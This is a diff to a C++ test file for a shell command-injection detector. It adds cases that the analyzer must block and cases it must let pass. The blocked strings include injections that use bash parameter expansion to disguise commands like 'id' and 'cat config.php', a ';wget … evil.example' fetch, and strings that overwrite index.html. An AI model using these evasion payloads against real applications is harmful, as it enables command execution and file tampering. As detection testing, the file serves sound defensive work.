@@ -599,6 +599,40 @@ TEST(Shell, FilesAmongWords) {
     EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
 }
 
+// Names of commands that expansions make, and what stands before a name and comes to nothing. Each was run by
+// bash.
+TEST(Shell, NamesThatExpansionsMake) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  for (const std::string_view text : {";a=xid;\"${a#x}\"",
+                                      ";a=xd;i${a#x}",
+                                      ";a=xat;c${a#x} config.php",
+                                      ";b=1 a=xid;${a#x}",
+                                      "(a=xid;${a#x})",
+                                      ";if a=xid;then ${a#x};fi",
+                                      ";a=ID;${a,,}",
+                                      ";export a=xid;${a#x}",
+                                      ";set -- xid;${1#x}",
+                                      ";${!:-id}",
+                                      ";${-:+id}",
+                                      ";a=xls;${a#x} [a-z]*",
+                                      ";$z $z id",
+                                      ";$@ $@ cat config.php",
+                                      ";$() id",
+                                      ";$(:) id",
+                                      ";${z:-} id",
+                                      ";cat x x x app/conf",
+                                      ";wget x x x x evil.example",
+                                      ";sh x.sh x x x x",
+                                      "x {\nid",
+                                      "x;cat>index.html",
+                                      ";>index.html"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
+  for (const std::string_view text :
+       {"a; ${total-count} left", "price;${a}", "row;${i%2}", "a;${b.c}", "a;${price/2}",
+        "function f() {\n  id = 3;\n}", "if (x) {\n  top\n}", "a > b.html", "see; find the best of app/conf"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
+}
+
 // Directly behind a separator, a command and the files that it is given are no sentence, whatever else its
 // name is.
 TEST(Shell, FilesDirectlyBehindSeparators) {
@@ -612,8 +646,8 @@ TEST(Shell, FilesDirectlyBehindSeparators) {
     EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
   for (const std::string_view text :
        {"; join us", "; look here", "; touch base", "; install x", "; node x", "a; : >b", ":; :)",
-        "Node;node.js", "see a.txt; diff b.txt", "x; for ((a);;) { top = 5; }", "R&amp;D;id=3", "var a;id = user.id;", "a;id = 3",
-        "AT&amp;T;cat", "&nbsp;id", "R&amp;top stories"})
+        "Node;node.js", "see a.txt; diff b.txt", "x; for ((a);;) { top = 5; }", "R&amp;D;id=3",
+        "var a;id = user.id;", "a;id = 3", "AT&amp;T;cat", "&nbsp;id", "R&amp;top stories"})
     EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
 }
 
